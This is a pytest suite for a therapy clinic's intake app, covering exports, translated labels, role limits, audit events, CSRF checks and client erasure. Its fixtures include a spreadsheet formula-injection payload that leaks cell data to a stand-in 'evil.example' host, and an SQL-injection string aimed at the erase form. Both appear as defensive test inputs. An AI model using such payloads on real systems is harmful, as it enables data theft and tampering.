"""Exports and the client's rights: the right data, in the right language, to the right people,
audited; and erasing a client leaves nothing behind."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import event, func, select

from intake.extensions import db
from intake.infra.keeping import Shelf
from intake.models import (
    Alert,
    Answer,
    Appointment,
    AuditEvent,
    CheckIn,
    Client,
    ClientView,
    Response,
    Role,
    utcnow,
)
from intake.practice import audit
from intake.questionnaires import REGISTRY
from tests.conftest import Kiosk, export_client, post

SPANISH_INTAKE = {
    "goal_1": "Dormir mejor, sin pesadillas",
    "whose_idea": "court",
    "wants_to_be_here": 2,
    "worried_could_find_out": ["court", "overheard"],
    "prior_therapy": "harmful",
    "prior_what_did_not_work": "No me escuchaban.",
    "judgement_worry": "rather_not_say",
}
HOSTILE = {
    "goal_1": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "goal_2": "+1",
    "goal_3": "-2",
    "values_to_respect": "@x",
    "prior_what_did_not_work": "\tTab first",
    "prior_therapy": "harmful",
    "wants_to_be_here": 7,
}
PRIVATE_PERIODIC = {"prefer_different_therapist": "yes",
                    "prefer_different_visibility": "coordinator",
                    "thinking_of_stopping": "not_sure"}
WHEN = datetime(2026, 3, 10, 9, 30, tzinfo=UTC)


@pytest.fixture
def admin(make_staff):
    return make_staff(Role.ADMIN, locale="en")


@pytest.fixture
def therapist(make_staff):
    return make_staff(Role.THERAPIST, locale="en")


@pytest.fixture
def spanish_client(make_client, make_response, therapist):
    someone = make_client(therapist=therapist, locale="es", reference="ES-0001")
    make_response(someone, "intake", SPANISH_INTAKE, locale="es", when=WHEN)
    return someone


def export(client, file_format="csv", locale="en", **fields):
    return post(client, "/staff/exports", {"format": file_format, "locale": locale, **fields},
                token_from="/staff/exports")


def csv_rows(response) -> list[dict]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte order mark, for Excel
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def by_question(rows) -> dict[str, list[dict]]:
    found: dict[str, list[dict]] = {}
    for row in rows:
        found.setdefault(row["question"], []).append(row)
    return found


def events(app, action: str) -> list[AuditEvent]:
    with app.app_context():
        found = db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id)).all()
        db.session.expunge_all()
        return found


# The admin's export


def test_a_spanish_response_exports_as_csv_with_english_labels(client, login, admin,
                                                               spanish_client):
    login(admin)
    response = export(client, "csv", "en")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="intake-responses-{utcnow().date().isoformat()}.csv"')
    assert response.headers["Cache-Control"] == "no-store"
    rows = csv_rows(response)
    answers = by_question(rows)
    assert rows[0]["client_reference"] == "ES-0001"
    assert {row["response_locale"] for row in rows} == {"es"}
    assert {row["submitted_at"] for row in rows} == {"2026-03-10T09:30:00Z"}
    assert {row["questionnaire"] for row in rows} == {"intake"}
    assert {row["questionnaire_version"] for row in rows} == {str(REGISTRY["intake"].version)}
    (whose,) = answers["whose_idea"]
    assert whose["question_label"] == "Whose idea was it for you to come here?"
    assert (whose["answer_code"], whose["answer_label"]) == ("court",
                                                             "A court or probation officer")
    assert [(r["answer_code"], r["answer_label"]) for r in answers["worried_could_find_out"]] == [
        ("court", "A court or probation officer"),
        ("overheard", "People in the waiting room or the next room")]
    (scale,) = answers["wants_to_be_here"]
    assert (scale["answer_code"], scale["answer_number"], scale["answer_label"]) == ("", "2", "2")
    (private,) = answers["judgement_worry"]
    assert (private["answer_code"], private["answer_label"]) == ("rather_not_say",
                                                                "Preferred not to say")
    (goal,) = answers["goal_1"]
    assert (goal["text"], goal["text_locale"], goal["answer_label"]) == (
        "Dormir mejor, sin pesadillas", "es", "")
    # In the order the client was asked, a multiple choice in the order it was chosen.
    assert [row["question"] for row in rows] == [
        "goal_1", "whose_idea", "wants_to_be_here", "worried_could_find_out",
        "worried_could_find_out", "prior_therapy", "prior_what_did_not_work", "judgement_worry"]


def test_the_same_response_exports_with_arabic_labels(client, login, admin, spanish_client):
    login(admin)
    rows = by_question(csv_rows(export(client, "csv", "ar")))
    (whose,) = rows["whose_idea"]
    assert whose["question_label"] == "من صاحب فكرة مجيئك إلى هنا؟"
    assert whose["answer_label"] == "المحكمة أو ضابط المراقبة القضائية"
    assert rows["judgement_worry"][0]["answer_label"] == "تفضيل عدم الإجابة"
    assert rows["goal_1"][0]["text"] == "Dormir mejor, sin pesadillas"  # as written
    assert rows["wants_to_be_here"][0]["answer_label"] == "2"


@pytest.mark.parametrize(("locale", "question", "court"), [
    ("en", "Whose idea was it for you to come here?", "A court or probation officer"),
    ("ar", "من صاحب فكرة مجيئك إلى هنا؟", "المحكمة أو ضابط المراقبة القضائية"),
])
def test_the_same_response_exports_as_json(client, login, admin, spanish_client, locale,
                                           question, court):
    login(admin)
    response = export(client, "json", locale)
    assert response.mimetype == "application/json"
    assert response.headers["Content-Disposition"].endswith('.json"')
    document = json.loads(response.get_data(as_text=True))
    assert document["labels_locale"] == locale and document["export"] == "responses"
    answers = by_question(document["answers"])
    (whose,) = answers["whose_idea"]
    assert whose["client_reference"] == "ES-0001"
    assert whose["response_locale"] == "es"
    assert whose["submitted_at"] == "2026-03-10T09:30:00Z"
    assert (whose["question_label"], whose["answer_code"], whose["answer_label"]) == (
        question, "court", court)
    scale = answers["wants_to_be_here"][0]
    assert scale["answer_number"] == 2 and scale["answer_code"] is None
    goal = answers["goal_1"][0]
    assert (goal["text"], goal["text_locale"]) == ("Dormir mejor, sin pesadillas", "es")


def test_formulas_in_free_text_are_neutralised_in_csv(client, login, admin, make_client,
                                                      make_response):
    someone = make_client()
    make_response(someone, "intake", HOSTILE)
    make_response(someone, "post_session", {"note": "\rCarriage return", "listened": 3})
    login(admin)
    rows = by_question(csv_rows(export(client, "csv")))
    assert rows["goal_1"][0]["text"] == "'" + HOSTILE["goal_1"]
    assert rows["goal_2"][0]["text"] == "'+1"
    assert rows["goal_3"][0]["text"] == "'-2"
    assert rows["values_to_respect"][0]["text"] == "'@x"
    assert rows["prior_what_did_not_work"][0]["text"] == "'\tTab first"
    assert rows["note"][0]["text"] == "'\rCarriage return"
    # The answer number column holds numbers, unquoted and without an apostrophe.
    assert rows["wants_to_be_here"][0]["answer_number"] == "7"
    assert rows["listened"][0]["answer_number"] == "3"
    # JSON is for programs: the text stays exactly as written.
    document = json.loads(export(client, "json").get_data(as_text=True))
    texts = {row["question"]: row["text"] for row in document["answers"] if row["text"]}
    assert texts["goal_1"] == HOSTILE["goal_1"] and texts["goal_3"] == "-2"


def start_a_draft(app, make_check_in, someone) -> None:
    """Answer two steps of a pre-session check-in on a tablet of its own, and stop."""
    tablet = Kiosk(app.test_client())
    tablet.start(make_check_in(someone, "pre_session").code)
    tablet.answer({"feeling_today": "5"})
    tablet.answer({"talk_about": "Un borrador"})


def test_drafts_are_never_exported(app, client, login, admin, spanish_client, make_check_in):
    start_a_draft(app, make_check_in, spanish_client)
    with app.app_context():
        assert db.session.scalar(select(func.count(Response.id)).where(
            Response.submitted_at.is_(None))) == 1
    login(admin)
    rows = csv_rows(export(client, "csv"))
    assert rows and "Un borrador" not in {row["text"] for row in rows}
    assert {row["questionnaire"] for row in rows} == {"intake"}


def test_the_period_is_whole_days_in_utc(client, login, admin, make_client, make_response):
    someone = make_client()
    for day in (1, 2, 3):
        make_response(someone, "post_session", {"listened": day},
                      when=datetime(2026, 5, day, 23, 59, tzinfo=UTC))
    login(admin)
    rows = csv_rows(export(client, "csv", since="2026-05-02", until="2026-05-02"))
    assert [row["answer_number"] for row in rows] == ["2"]
    rows = csv_rows(export(client, "csv", since="2026-05-02"))
    assert [row["answer_number"] for row in rows] == ["2", "3"]
    rows = csv_rows(export(client, "csv", until="9999-12-31"))
    assert len(rows) == 3


def test_a_bad_request_gets_the_form_again_and_exports_nothing(app, client, login, admin,
                                                                spanish_client):
    login(admin)
    for fields in ({"since": "2026-05-02", "until": "2026-05-01"},
                   {"locale": "xx"}, {"locale": "../../etc"}, {"format": "xlsx"},
                   {"since": "not a date"}):
        response = export(client, **{"file_format": fields.pop("format", "csv"), **fields})
        assert response.status_code == 200
        assert response.mimetype == "text/html"
        assert 'class="field-error"' in response.get_data(as_text=True), fields
    assert events(app, "export.responses") == []


def test_every_admin_export_is_audited_without_answers(app, client, login, admin,
                                                       spanish_client):
    login(admin)
    export(client, "csv", "en").get_data()
    export(client, "json", "ar", since="2026-01-01").get_data()
    recorded = events(app, "export.responses")
    assert [event.detail for event in recorded] == [
        f"format=csv rows={len(answer_rows(app))} labels=en",
        f"format=json rows={len(answer_rows(app))} labels=ar from=2026-01-01",
    ]
    assert all(event.client_id is None and event.actor_id == admin.id for event in recorded)
    assert not any("Dormir" in event.detail or "ES-0001" in event.detail for event in recorded)


def answer_rows(app) -> list[int]:
    with app.app_context():
        return list(db.session.scalars(select(Answer.id)))


def test_the_export_page_in_every_language(client, login, make_staff):
    for locale, direction in (("en", "ltr"), ("es", "ltr"), ("ar", "rtl"), ("zh_Hans", "ltr")):
        staff = make_staff(Role.ADMIN, locale=locale)
        login(staff)
        html = client.get("/staff/exports").get_data(as_text=True)
        assert f'lang="{locale.replace("_", "-")}" dir="{direction}"' in html
        assert 'name="csrf_token"' in html and 'type="date"' in html
        # The labels default to the reader's language.
        assert f'<option selected value="{locale}">' in html
        post(client, "/staff/logout", token_from="/staff/")


def test_an_export_takes_the_same_number_of_queries_for_2_and_40_responses(
    app, client, login, admin, make_client, make_response
):
    statements: list[str] = []

    def record(conn, cursor, statement, *args):
        statements.append(statement)

    someone = make_client()
    login(admin)
    with app.app_context():
        engine = db.engine
    counts = {}
    for total in (2, 40):
        while len(answer_rows(app)) < total * 2:
            make_response(someone, "post_session", {"listened": 5, "note": "ok"})
        for path, send in (
            ("admin", lambda: export(client, "csv")),
            ("client", lambda: export_client(client, f"/staff/clients/{someone.id}", "json")),
        ):
            statements.clear()
            event.listen(engine, "before_cursor_execute", record)
            try:
                response = send()
                assert response.status_code == 200
                response.get_data()
            finally:
                event.remove(engine, "before_cursor_execute", record)
            counts[path, total] = len(statements)
    assert counts["admin", 2] == counts["admin", 40]
    assert counts["client", 2] == counts["client", 40]


# One client's export


def test_a_therapist_exports_their_own_client(app, client, login, therapist, spanish_client):
    login(therapist)
    response = export_client(client, f"/staff/clients/{spanish_client.id}", "csv")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="intake-client-ES-0001-{utcnow().date().isoformat()}.csv"')
    assert response.headers["Cache-Control"] == "no-store"
    rows = csv_rows(response)
    assert {row["client_reference"] for row in rows} == {"ES-0001"}
    assert by_question(rows)["whose_idea"][0]["answer_label"] == "A court or probation officer"
    document = json.loads(export_client(
        client, f"/staff/clients/{spanish_client.id}", "json").get_data(as_text=True))
    assert document["export"] == "client" and len(document["answers"]) == len(rows)
    # The client's choices on the consent page are their data too.
    assert [(c["choice"], c["text_version"]) for c in document["consent"]] == [("accepted", 1)]
    recorded = events(app, "export.client")
    assert [(e.client_id, e.actor_id, e.detail) for e in recorded] == [
        (spanish_client.id, therapist.id, "format=csv labels=en"),
        (spanish_client.id, therapist.id, "format=json labels=en"),
    ]


def test_a_therapist_reads_the_labels_in_their_own_language(client, login, make_staff,
                                                            make_client, make_response):
    therapist = make_staff(Role.THERAPIST, locale="ar")
    someone = make_client(therapist=therapist)
    make_response(someone, "intake", SPANISH_INTAKE, locale="es")
    login(therapist)
    rows = by_question(csv_rows(export_client(client, f"/staff/clients/{someone.id}")))
    assert rows["whose_idea"][0]["answer_label"] == "المحكمة أو ضابط المراقبة القضائية"


def test_the_coordinator_only_answer_never_reaches_the_therapist(client, login, therapist,
                                                                 admin, make_client,
                                                                 make_response):
    someone = make_client(therapist=therapist)
    make_response(someone, "periodic", PRIVATE_PERIODIC)
    private = {"prefer_different_therapist", "prefer_different_visibility"}
    login(therapist)
    for file_format in ("csv", "json"):
        body = export_client(client, f"/staff/clients/{someone.id}", file_format)
        text = body.get_data(as_text=True)
        assert "thinking_of_stopping" in text  # the rest of the survey is there
        assert not any(key in text for key in private)
        assert "different therapist" not in text
    post(client, "/staff/logout", token_from="/staff/")
    login(admin)
    questions = {row["question"] for row in csv_rows(export(client, "csv"))}
    assert private <= questions
    own = export_client(client, f"/staff/clients/{someone.id}", "csv")
    assert private <= {row["question"] for row in csv_rows(own)}


def test_an_answer_shared_with_the_therapist_is_in_their_export(client, login, therapist,
                                                                 make_client, make_response):
    someone = make_client(therapist=therapist)
    make_response(someone, "periodic", {"prefer_different_therapist": "yes",
                                        "prefer_different_visibility": "therapist"})
    login(therapist)
    rows = csv_rows(export_client(client, f"/staff/clients/{someone.id}"))
    assert {"prefer_different_therapist", "prefer_different_visibility"} <= {
        row["question"] for row in rows}


def test_role_limits(app, client, login, make_staff, spanish_client):
    path = f"/staff/clients/{spanish_client.id}"
    for role in (Role.THERAPIST, Role.FRONTDESK):
        login(make_staff(role))  # another therapist, then the front desk
        assert export_client(client, f"{path}", "csv").status_code == 404
        assert export_client(client, f"{path}", "json").status_code == 404
        assert client.get("/staff/exports").status_code == 404
        assert post(client, "/staff/exports", {"format": "csv", "locale": "en"},
                    token_from="/staff/").status_code == 404
        assert client.get(f"{path}/erase").status_code == 404
        assert post(client, f"{path}/erase", {"reference": spanish_client.reference},
                    token_from="/staff/").status_code == 404
        post(client, "/staff/logout", token_from="/staff/")
    # The client's own therapist may export, never erase.
    login(spanish_client.therapist)
    assert client.get(f"{path}/erase").status_code == 404
    assert post(client, f"{path}/erase", {"reference": spanish_client.reference},
                token_from="/staff/").status_code == 404
    assert client.get("/staff/exports").status_code == 404
    with app.app_context():
        assert db.session.get(Client, spanish_client.id) is not None
    assert events(app, "export.client") == [] and events(app, "export.responses") == []


def test_an_unknown_format_or_client_is_refused(client, login, admin, spanish_client):
    login(admin)
    assert export_client(client, f"/staff/clients/{spanish_client.id}", "xlsx").status_code == 400
    assert export_client(client, "/staff/clients/999999", "csv").status_code == 404
    assert client.get("/staff/clients/999999/erase").status_code == 404


def test_the_client_data_links_follow_the_role(app, login, client, admin, therapist,
                                               spanish_client, make_staff):
    from flask import render_template_string
    from flask_login import login_user

    from intake.models import Staff

    include = '{% include "staff/_client_data.html" %}'
    with app.test_request_context():
        for staff_id, expected in ((admin.id, 5), (therapist.id, 3),
                                   (make_staff(Role.FRONTDESK).id, 0)):
            login_user(db.session.get(Staff, staff_id))
            html = render_template_string(
                include, client=db.session.get(Client, spanish_client.id))
            assert html.count("<li>") == expected
            assert ("/erase" in html) is (expected == 5)
            assert ("/seen-by" in html) is (expected == 5)


# Erasure


def add_everything(app, someone, make_response, make_check_in, therapist_id):
    """Give a client every kind of row there is, and audit events that name them."""
    make_response(someone, "intake", SPANISH_INTAKE, locale="es")
    make_response(someone, "post_session", {"judged": "yes", "listened": 2})  # alerts
    make_response(someone, "periodic", PRIVATE_PERIODIC)
    start_a_draft(app, make_check_in, someone)
    with app.app_context():
        from intake.infra.database import write_transaction

        with write_transaction() as session:
            session.add(ClientView(staff_id=therapist_id, client_id=someone.id))
        audit.record("test.note", therapist_id, someone.id,
                     detail=f"reference={someone.reference} kind=judged")
        audit.record("test.note", therapist_id, None, detail=f"about {someone.reference}")


def counts_for(app, client_id: int) -> dict[str, int]:
    """Count every row that still points at a client, in every table, and its answers."""
    found = {}
    with app.app_context():
        for table in db.metadata.sorted_tables:
            if "client_id" in table.c:
                found[table.name] = db.session.scalar(
                    select(func.count()).select_from(table).where(table.c.client_id == client_id))
        found["client"] = db.session.scalar(
            select(func.count(Client.id)).where(Client.id == client_id))
    return found


def test_erasing_a_client_leaves_nothing_behind(app, client, login, admin, make_client,
                                                make_response, make_check_in):
    someone = make_client(reference="GONE-01")
    kept = make_client(reference="KEPT-01", therapist=someone.therapist)
    for each in (someone, kept):
        add_everything(app, each, make_response, make_check_in, each.therapist.id)
    with app.app_context():
        response_ids = list(db.session.scalars(
            select(Response.id).where(Response.client_id == someone.id)))
        check_in_ids = list(db.session.scalars(
            select(CheckIn.id).where(CheckIn.client_id == someone.id)))
        appointment_ids = list(db.session.scalars(
            select(Appointment.id).where(Appointment.client_id == someone.id)))
        assert len(response_ids) == 4 and appointment_ids
        assert db.session.scalar(select(func.count(Alert.id)).where(
            Alert.client_id == someone.id))
    before = counts_for(app, someone.id)
    assert all(before.values()), before
    kept_before = counts_for(app, kept.id)

    login(admin)
    client.get(f"/staff/clients/{someone.id}")  # its page and brief are now kept
    page = client.get(f"/staff/clients/{someone.id}/erase").get_data(as_text=True)
    assert "GONE-01" in page and 'name="reference"' in page
    assert "4 submitted responses" not in page and "3 submitted responses" in page
    assert "1 unfinished response" in page
    response = post(client, f"/staff/clients/{someone.id}/erase", {"reference": "GONE-01"},
                    token_from=f"/staff/clients/{someone.id}/erase")
    assert response.status_code == 302
    assert response.headers["Location"] == "/staff/"
    dashboard = client.get("/staff/").get_data(as_text=True)
    assert "The client and everything about them were erased." in dashboard
    assert "GONE-01" not in dashboard
    kept_here = [repr(value) for shelf in Shelf.every
                 for value in app.extensions.get(shelf.name, {}).values()]
    assert not any("GONE-01" in value for value in kept_here)  # nothing kept in memory

    assert not any(counts_for(app, someone.id).values())
    with app.app_context():
        for model, ids in ((Answer, response_ids), (CheckIn, check_in_ids),
                           (Appointment, appointment_ids)):
            column = Answer.response_id if model is Answer else model.id
            assert db.session.scalar(select(func.count()).select_from(model).where(
                column.in_(ids))) == 0, model
        assert db.session.scalar(select(func.count(Response.id)).where(
            Response.id.in_(response_ids))) == 0
        details = list(db.session.scalars(select(AuditEvent.detail)))
        assert not any("GONE-01" in detail for detail in details)
        assert "reference=[erased] kind=judged" in details  # what was not about them stays
    assert counts_for(app, kept.id) == kept_before  # the other client keeps everything
    (erased,) = events(app, "client.erased")
    assert erased.client_id is None and erased.detail == ""
    assert erased.actor_id == admin.id and erased.at is not None
    assert client.get(f"/staff/clients/{someone.id}").status_code == 404


def test_audit_events_about_the_client_stay_but_no_longer_point_at_them(
    app, client, login, admin, therapist, spanish_client
):
    login(therapist)
    client.get(f"/staff/clients/{spanish_client.id}")
    export_client(client, f"/staff/clients/{spanish_client.id}", "csv").get_data()
    post(client, "/staff/logout", token_from="/staff/")
    login(admin)
    post(client, f"/staff/clients/{spanish_client.id}/erase", {"reference": "ES-0001"},
         token_from=f"/staff/clients/{spanish_client.id}/erase")
    for action in ("brief.viewed", "export.client"):
        (kept,) = events(app, action)
        assert kept.client_id is None and kept.actor_id == therapist.id


def test_a_wrong_reference_erases_nothing(app, client, login, admin, spanish_client):
    login(admin)
    before = counts_for(app, spanish_client.id)
    path = f"/staff/clients/{spanish_client.id}/erase"
    for typed in ("ES-0002", "es-0001", "ES-000", "", "ES-0001' OR 1=1 --"):
        response = post(client, path, {"reference": typed}, token_from=path)
        assert response.status_code == 200
        assert 'class="field-error"' in response.get_data(as_text=True)
    assert counts_for(app, spanish_client.id) == before
    assert events(app, "client.erased") == []


def test_the_erase_page_in_arabic(client, login, make_staff, spanish_client):
    login(make_staff(Role.ADMIN, locale="ar"))
    html = client.get(f"/staff/clients/{spanish_client.id}/erase").get_data(as_text=True)
    assert '<html lang="ar" dir="rtl">' in html
    assert '<bdi class="reference" dir="ltr" translate="no">ES-0001</bdi>' in html


def test_forms_without_their_csrf_token_are_refused(app, client, login, admin, spanish_client):
    login(admin)
    for path, data in (
        ("/staff/exports", {"format": "csv", "locale": "en"}),
        (f"/staff/clients/{spanish_client.id}/erase", {"reference": "ES-0001"}),
    ):
        response = client.post(path, data=data)
        assert response.status_code == 400, path
        assert "Please start again" in response.get_data(as_text=True)
    assert counts_for(app, spanish_client.id)["client"] == 1
    assert events(app, "export.responses") == [] and events(app, "client.erased") == []


def test_a_long_export_streams(app, client, login, admin, make_client, make_response):
    someone = make_client()
    start = utcnow() - timedelta(days=400)
    for day in range(120):  # more rows than one chunk
        make_response(someone, "post_session",
                      {"listened": 8, "ideas_respected": 8, "judged": "no",
                       "worked_on_what_matters": day % 11,
                       "room_problems": ["too_cold", "noisy"], "note": f"note {day}"},
                      when=start + timedelta(days=day))
    login(admin)
    response = export(client, "csv")
    assert response.is_streamed
    rows = csv_rows(response)
    assert len(rows) == 120 * 7
    assert rows[-1]["text"] == "note 119"


def test_erasure_does_not_depend_on_the_database_cascading(app, make_client, make_response):
    """Every child table is emptied by an explicit DELETE, so erasure still works where
    foreign keys are off (an SQLite connection opened without the pragma)."""
    from sqlalchemy import event

    from intake.practice import erasure

    someone = make_client()
    make_response(someone, "post_session", {"judged": "yes", "note": "x"})
    statements = []

    def record(conn, cursor, statement, *args):
        statements.append(statement.lower())

    with app.app_context():
        engine = db.engine
        event.listen(engine, "before_cursor_execute", record)
        try:
            erasure.erase_client(None, someone.id, someone.reference)
        finally:
            event.remove(engine, "before_cursor_execute", record)
        db.session.remove()
    deleted = {s.split()[2].strip('"') for s in statements if s.startswith("delete from")}
    assert {"answer", "response", "check_in", "appointment", "alert", "client"} <= deleted
    assert not any(counts_for(app, someone.id).values())
    with app.app_context():
        assert db.session.scalar(select(func.count(Answer.id))) == 0
        assert db.session.scalar(select(func.count(Response.id))) == 0


def test_rows_carry_the_appointments_date_kind_and_room(app, client, login, make_staff,
                                                        make_client, make_response):
    from tests.conftest import add_room

    someone = make_client()
    room_id = add_room(app, "Garden room")
    when = datetime(2026, 3, 10, 9, 30, tzinfo=UTC)
    make_response(someone, "post_session", {"listened": 8}, when=when, room_id=room_id)
    make_response(someone, "intake", {"whose_idea": "self"}, when=when)
    login(make_staff(Role.ADMIN))
    rows = csv_rows(export(client))
    post_session = [row for row in rows if row["questionnaire"] == "post_session"]
    assert {(row["appointment_at"], row["appointment_kind"], row["room"])
            for row in post_session} == {("2026-03-10T09:30:00Z", "in_person", "Garden room")}
    intake = [row for row in rows if row["questionnaire"] == "intake"]
    assert {(row["appointment_at"], row["room"]) for row in intake} == {("", "")}


def test_a_cross_site_get_neither_downloads_nor_audits(app, client, login, therapist,
                                                       spanish_client):
    login(therapist)
    path = f"/staff/clients/{spanish_client.id}/export"
    # A link or an image on another site, followed with the therapist's cookie.
    for sent in (client.get(f"{path}?format=json"), client.get(path),
                 client.post(path, data={"format": "json"},
                             headers={"Referer": "https://elsewhere.example/"})):
        assert sent.status_code in (400, 405)
        assert "Content-Disposition" not in sent.headers
    assert events(app, "export.client") == []
    page = client.get(f"/staff/clients/{spanish_client.id}").get_data(as_text=True)
    assert f'<form method="post" action="{path}">' in page
    assert f'href="{path}' not in page
